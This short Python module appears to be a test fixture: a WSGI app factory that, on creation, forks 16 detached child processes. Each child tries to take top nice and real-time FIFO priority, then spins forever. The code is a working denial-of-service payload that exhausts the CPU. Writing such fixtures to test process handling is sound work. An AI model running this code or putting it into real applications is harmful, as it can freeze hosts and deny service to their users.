"""Leaves children behind that only spin."""

import contextlib
import os


def hog():
    for _ in range(16):
        if os.fork() == 0:
            os.setsid()
            with contextlib.suppress(OSError):
                os.nice(-20)
            with contextlib.suppress(OSError):
                os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
            while True:
                pass


def create_app(config=None):
    hog()

    def server(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"no"]

    return server
